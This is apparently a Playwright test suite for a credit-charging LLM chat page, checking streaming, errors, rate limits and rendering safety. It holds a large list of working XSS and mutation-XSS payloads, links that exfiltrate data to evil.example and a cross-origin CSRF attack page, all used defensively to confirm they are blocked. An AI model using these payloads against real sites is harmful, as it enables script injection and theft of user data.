"""The chat in a real browser, with what people do, what goes wrong, and what models may write."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from accounts.models import User
from credits import ledger
from llmproxy.models import Completion, IdempotencyKey
from tests.llmproxy import scripted_upstream
from tests.llmproxy.scripted_upstream import Upstream, chunk, streamed
from tests.pages import CHROMIUM, DESKTOP, PHONE, check_page, log_in, open_strict_page

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(not CHROMIUM, reason="no browser: `make test` names one in CHROMIUM"),
]
FENCE = "```"
# Each of these would run a script, load something, or leave the page, if one lock were open.
HOSTILE = (
    """\
<script>window.owned = 1</script>

<img src=x onerror="window.owned = 2"> <svg onload="window.owned = 3"><script>0</script></svg>

<iframe src="https://evil.example/frame"></iframe><base href="https://evil.example/">

<form action="https://evil.example/form"><input name=password><button formaction=//evil.example>

<meta http-equiv="refresh" content="0;url=https://evil.example/"><style>* { display: none }</style>

<p style="position: fixed; inset: 0">over the page</p><a href="#" onclick="window.owned = 4">x</a>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1
onerror=window.owned=5&gt;">

[a](javascript:window.owned=6) [b](JaVaScRiPt:window.owned=7) [c](java&#10;script:window.owned=8)
[d](data:text/html,<script>window.owned=9</script>) [e](vbscript:x) [f](//evil.example/f)
[g](&#106;avascript:window.owned=10) [h](blob:https://evil.example/1) [i](file:///etc/passwd)
<javascript:window.owned=11> [k][k] [l](/account/delete) [m](filesystem:x) [n](\u0001javascript:x)

[k]: javascript:window.owned=12

![cat](https://evil.example/cat.png?said=secret) ![](data:image/svg+xml,<svg/onload=alert(1)>)
![d](//evil.example/d.png) [![e](https://evil.example/e.png)](https://fine.example/e)
![ref][pic] <img src="https://evil.example/raw.png">

[pic]: https://evil.example/pic.png "a title"

| left | right |
| :--- | ----: |
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |

[fine](https://fine.example/?a=1&b=2 "Title\\" onmouseover=window.owned=13 x=\\"") <https://fine.example/two>

"""
    + f'{FENCE}html" onmouseover=window.owned=14\n<script>window.owned = 15</script>\n{FENCE}\n\n'
)
LONG = (
    "# A heading\n\n3. third\n4. fourth\n\n"
    + "> " * 400
    + "deep\n\n"
    + "[" * 20_000
    + "\n\n"
    + "*a " * 7000
    + "\n\n"
    + "w" * 120_000
    + "\n\n"
    + "".join("  " * depth + "* a\n" for depth in range(150))
    + "\nThe end"
)
# The next answer arrives byte by byte, so that each Thai letter comes in three parts.
BYTE_BY_BYTE = """() => {
  const [real, chunk] = [window.fetch, {choices: [{delta: {content: "สวัสดี **ครับ**"}}]}];
  const bytes = new TextEncoder().encode(`data: ${JSON.stringify(chunk)}\\n\\ndata: [DONE]\\n\\n`);
  const body = new ReadableStream({start(stream) {
    bytes.forEach((byte) => stream.enqueue(Uint8Array.of(byte)));
    stream.close();
  }});
  window.fetch = async () => { window.fetch = real; return new Response(body); };
}"""
# Enter, while an input method composes a word.
COMPOSING = """() => document.getElementById("chat-question").dispatchEvent(
    new KeyboardEvent("keydown", {key: "Enter", isComposing: true, bubbles: true}))"""
DRAWN = (
    "#chat-log script, #chat-log img, #chat-log svg, #chat-log iframe, #chat-log form, "
    "#chat-log style, #chat-log [style], #chat-log input, #chat-log math, #chat-log base"
)


@pytest.fixture
def context(browser: Browser, live_server: Any, user: User) -> Iterator[BrowserContext]:
    opened = browser.new_context(**DESKTOP, base_url=live_server.url)
    log_in(opened, user, live_server.url)
    yield opened
    opened.close()


def send(page: Page, question: str) -> None:
    page.locator("#chat-question").fill(question)
    page.locator("#chat-question").press("Enter")


def test_a_chat_from_its_first_question_to_the_last_credit(
    context: BrowserContext, live_server: Any, upstream: Upstream, user: User
) -> None:
    with open_strict_page(context, live_server.url) as page:
        page.goto("/chat")
        check_page(page, "chat-new")
        upstream.script = streamed("สวัสดี **ครับ**\n\nสอง", "ง")
        send(page, "ทดสอบ")
        expect(page.locator(".chat-cost")).to_have_text("1 credit")
        expect(page.locator("header .balance")).to_have_text("49 credits")
        assert page.locator(".chat-text").inner_text() == "สวัสดี ครับ\n\nสองง"
        assert page.locator(".chat-text strong").inner_text() == "ครับ"
        assert page.locator("#chat-question").evaluate("e => e === document.activeElement")
        check_page(page, "chat")
        row = Completion.objects.get()
        assert page.locator(".chat-receipt").get_attribute("href") == (
            f"/account/completions/{row.generation_id}"
        )
        page.reload()
        assert page.locator(".chat-text").inner_text() == "สวัสดี ครับ\n\nสองง"
        page.locator("#chat-question").fill("And more?")
        page.evaluate(COMPOSING)
        assert page.locator(".chat-mine").count() == 1
        page.evaluate("document.forms['chat-ask'].requestSubmit()")
        page.evaluate("document.forms['chat-ask'].requestSubmit()")  # a double click
        expect(page.locator(".chat-cost").nth(1)).to_have_text("1 credit")
        assert [turn["role"] for turn in upstream.sent["messages"]] == [
            "user",
            "assistant",
            "user",
        ]
        assert len(upstream.requests) == IdempotencyKey.objects.count() == 2
        page.evaluate(BYTE_BY_BYTE)
        send(page, "In parts")
        expect(page.locator(".chat-text").nth(2)).to_have_text("สวัสดี ครับ")
        page.locator("#chat-new").click()
        assert page.locator("#chat-log").inner_text() == ""
    assert ledger.balance(user).credits == 48


def test_what_goes_wrong_is_said_in_words_and_loses_nothing(
    context: BrowserContext, live_server: Any, upstream: Upstream, user: User, settings: Any
) -> None:
    with open_strict_page(context, live_server.url) as page:
        page.goto("/chat")
        problem, field = page.locator("#chat-problem"), page.locator("#chat-question")
        upstream.script = scripted_upstream.error(400, "Too <b>warm</b>")
        send(page, "Does it work?")
        expect(problem).to_have_text("Too <b>warm</b>")
        assert field.input_value() == "Does it work?"
        upstream.script = scripted_upstream.pausing(0.2, chunk("Half an "), *[chunk("answer")] * 50)
        field.press("Enter")
        expect(page.locator(".chat-text")).to_contain_text("Half an")
        page.locator("#chat-stop").click()
        expect(page.locator(".chat-note")).to_contain_text("Stopped")
        expect(page.locator(".chat-cost")).to_have_text("1 credit", timeout=15_000)
        _lose_session(page, context)
        send(page, "Who am I?")
        expect(problem.locator("a")).to_have_attribute("href", "/accounts/login/?next=/chat")
        log_in(context, user, live_server.url)
        page.reload()
        assert field.input_value() == "Who am I?"
        ledger.adjust(user=user, amount=-49, reason="For this test", actor=None)
        field.press("Enter")
        expect(problem.locator("a")).to_have_attribute("href", "/account/credits")
        check_page(page, "chat-without-credits")
        ledger.adjust(user=user, amount=9, reason="For this test", actor=None)
        settings.WEB_LLM_RPM = 1
        upstream.script = streamed("Fine")
        field.press("Enter")
        expect(page.locator(".chat-text").nth(1)).to_have_text("Fine")
        expect(page.locator(".chat-cost").nth(1)).to_have_text("1 credit")
        send(page, "Too soon")
        expect(problem).to_contain_text("again in")
        expect(page.locator("#chat-send")).to_be_disabled()
        assert field.input_value() == "Too soon"


def _lose_session(page: Page, context: BrowserContext) -> None:
    context.clear_cookies(name="sessionid")
    assert page.locator("#chat-ask [name=csrfmiddlewaretoken]").count() == 1


def test_a_hostile_answer_is_only_text(
    browser: Browser, live_server: Any, upstream: Upstream, user: User
) -> None:
    context = browser.new_context(**PHONE, base_url=live_server.url)
    log_in(context, user, live_server.url)
    with open_strict_page(context, live_server.url) as page:
        page.add_init_script(
            "window.broken = []; addEventListener('securitypolicyviolation',"
            " (event) => broken.push(event.violatedDirective + event.blockedURI))"
        )
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        page.goto("/chat")
        pieces = [HOSTILE[start : start + 7] for start in range(0, len(HOSTILE), 7)]
        upstream.script = streamed(*pieces)
        send(page, "<img src=x onerror=window.owned=16> Be evil")
        expect(page.locator(".chat-cost").last).not_to_have_text("…")
        expect(page.locator(".chat-copy")).to_be_visible()
        upstream.script = streamed(HOSTILE, LONG)
        send(page, "Be long")
        expect(page.locator(".chat-copy").nth(1)).to_be_visible(timeout=20_000)
        page.reload()  # what is kept is rendered again
        expect(page.locator(".chat-copy").nth(1)).to_be_visible(timeout=20_000)
        assert page.evaluate("[window.owned, broken]") == [None, []]
        assert page.locator(DRAWN).count() == 0
        links = page.locator("#chat-log .chat-text a").evaluate_all(
            "all => all.map((a) => [a.getAttribute('href'), a.rel, a.attributes.length])"
        )
        assert ["https://fine.example/?a=1&b=2", "noopener noreferrer nofollow", 4] in links
        assert {(link[0][:8], link[1]) for link in links} == {("https://", links[0][1])}
        assert page.url == f"{live_server.url}/chat"
        assert page.locator("ol[start='3'] > li").count() == 2
        assert page.locator(".chat-text").nth(1).inner_text().strip().endswith("The end")
        assert page.locator(".chat-text h3").count() == 1
        assert page.locator(".chat-text h2, .chat-text h1").count() == 0
        image = "cat (https://evil.example/cat.png?said=secret)"
        assert image in page.locator(".chat-text").first.inner_text()
        check_page(page, "chat-hostile")
    context.close()


ELSEWHERE = """
<form method=post enctype=text/plain action="SITE/v1/chat/completions">
<input name='{"messages": [{"role": "user", "content": "Hi"}], "a": "' value='"}'></form>
<script>
const body = '{"messages": [{"role": "user", "content": "Hi"}]}';
const tries = [{}, {mode: "no-cors"}, {headers: {"X-CSRFToken": "a".repeat(64)}},
  {headers: {"Content-Type": "application/json"}}].map((more) =>
  fetch("SITE/v1/chat/completions", {method: "POST", credentials: "include", body, ...more})
    .then((response) => response.type + response.status, () => "refused"));
Promise.all(tries).then((all) => { document.title = all.join(); document.forms[0].submit(); });
</script>
"""


def test_a_page_of_another_origin_cannot_spend_credits(
    context: BrowserContext, live_server: Any, upstream: Upstream, user: User
) -> None:
    def elsewhere(route: Route) -> None:
        body = ELSEWHERE.replace("SITE", live_server.url)
        route.fulfill(body=body, content_type="text/html")

    page = context.new_page()
    page.goto("/chat")  # the browser has session and CSRF cookie, and the host is the same site
    origin = live_server.url.rpartition(":")[0]
    page.route(f"{origin}:1234/", elsewhere)
    with page.expect_response(
        lambda got: got.request.is_navigation_request() and "v1" in got.url
    ) as sent:
        page.goto(f"{origin}:1234/")
    assert sent.value.status == 403
    assert "csrf_failed" in json.dumps(sent.value.json())
    assert upstream.requests == []
    assert ledger.balance(user).credits == 50
